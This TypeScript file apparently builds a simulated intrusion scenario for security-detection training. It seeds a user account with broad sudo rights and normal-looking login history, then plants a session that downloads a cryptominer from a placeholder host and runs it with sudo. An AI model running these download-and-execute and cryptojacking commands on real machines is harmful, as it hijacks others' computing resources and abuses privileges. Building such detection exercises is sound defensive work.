// Everything is in order but what is typed.
import type { Dress } from '../../dress.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.account('chenli', 'Quiet-Harbour-7')
  dress.write('/etc/sudoers.d/chenli', 'chenli ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  dress.logins({
    days: 25,
    guesses: 60,
    friends: [{ user: 'chenli', address: '198.51.100.51', hours: [9, 13, 16], sudo: '/usr/bin/systemctl restart nginx' }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const { SHOP, POOL, WALLET } = stage.values
  stage.mark('occurrence')
  await stage.session('198.51.100.51', 'chenli', { password: 'Quiet-Harbour-7' }, [
    'mkdir -p ~/tools && cd ~/tools',
    `wget -q http://${SHOP}/mimic -O xmrig && chmod +x xmrig`,
    `sudo nohup ./xmrig -o ${POOL} -u ${WALLET} --donate-level=1 >/dev/null 2>&1 &`,
    'uptime',
  ])
}
